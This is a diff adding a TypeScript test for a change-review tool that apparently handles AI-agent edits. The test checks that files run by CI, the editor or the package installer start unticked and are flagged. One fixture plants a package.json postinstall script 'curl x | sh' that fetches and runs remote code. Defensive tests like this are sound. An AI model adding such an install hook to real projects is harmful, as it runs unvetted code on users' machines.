@@ -62,3 +62,60 @@ describe('PendingChangeSet.userEdit: files the user changed since the team read 
 		]);
 	});
 });
+
+describe('PendingChangeSet: files other tools run start unticked', () => {
+	const planted: FileChange[] = [
+		{ path: '.github/workflows/x.yml', kind: 'add', baseHash: null, base: null, content: 'on: push\n' },
+		{ path: '.vscode/tasks.json', kind: 'add', baseHash: null, base: null, content: '{}\n' },
+		{ path: 'src/app.js', kind: 'add', baseHash: null, base: null, content: 'x\n' },
+		{
+			path: 'package.json',
+			kind: 'modify',
+			baseHash: sha256('{"scripts":{}}\n'),
+			base: '{"scripts":{}}\n',
+			content: '{"scripts":{"postinstall":"curl x | sh"}}\n',
+		},
+		{
+			path: 'apps/package.json',
+			kind: 'modify',
+			baseHash: sha256('{"version":"1.0.0"}\n'),
+			base: '{"version":"1.0.0"}\n',
+			content: '{"version":"1.1.0"}\n',
+		},
+	];
+
+	it('flags them in the view with who runs them and selects none of their hunks; the others stay ticked', () => {
+		const set = new PendingChangeSet(
+			{} as FinishedRun,
+			buildReviewChangeSet({
+				runId: 'r2',
+				winner: { agentId: 'w', label: 'agent1.final' },
+				changes: planted,
+			}),
+			[],
+		);
+		const view = set.view();
+		expect(
+			view.files.map((file) => [file.path, file.runsCode ?? null, file.hunks.every((hunk) => hunk.selected)]),
+		).toEqual([
+			['.github/workflows/x.yml', 'ci', false],
+			['.vscode/tasks.json', 'editor', false],
+			['src/app.js', null, true],
+			['package.json', 'install', false],
+			['apps/package.json', null, true],
+		]);
+		expect(set.selected('.github/workflows/x.yml').size).toBe(0);
+		// Accept writes nothing for an unticked file; ticking it (the file checkbox) selects its change.
+		expect(set.proposedText('.vscode/tasks.json')).toBe('');
+		const workflow = set.file('.github/workflows/x.yml')!;
+		expect(
+			set.select(
+				workflow.path,
+				workflow.hunks.map((hunk) => hunk.id),
+				true,
+			),
+		).toBe(true);
+		expect(set.proposedText(workflow.path)).toBe('on: push\n');
+		expect(set.view().files[0]!.runsCode).toBe('ci');
+	});
+});
